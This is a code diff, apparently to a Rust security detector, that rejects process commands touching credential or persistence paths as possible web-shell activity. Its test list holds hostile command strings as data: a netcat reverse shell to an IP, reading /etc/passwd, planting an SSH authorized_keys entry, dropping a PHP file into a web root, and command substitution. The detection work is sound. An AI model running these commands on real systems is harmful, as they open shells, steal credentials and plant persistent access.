@@ -737,6 +737,17 @@ pub fn plain_service_command(ev: &FlatEvent) -> Option<String> {
     if first.contains("/../") || in_drop_dir(first) {
         return None;
     }
+    // A command that reads or touches authentication records, credentials or a
+    // persistence location (`cat /etc/passwd`, `cp x ~/.ssh/authorized_keys`) is what a
+    // web shell runs first, not a mail or image helper.
+    if kept.iter().skip(1).any(|w| {
+        let w = w.trim_matches(|c| c == '"' || c == '\'');
+        w.contains('/')
+            && (is_credential(w)
+                || matches!(sensitivity(w), Sensitivity::High | Sensitivity::Persistence))
+    }) {
+        return None;
+    }
     Some(kept.join(" "))
 }
 
@@ -1567,6 +1578,8 @@ mod tests {
             "sh -c bash -i",
             "sh -c nc -e /bin/sh 198.51.100.1 4444",
             "sh -c sendmail x; cat /etc/passwd",
+            "sh -c cat /etc/passwd",
+            "sh -c cp k /root/.ssh/authorized_keys",
             "sh -c convert $(id) x",
             "sh -c echo x > /var/www/html/s.php",
             "sh -c /tmp/sendmail -t -i",
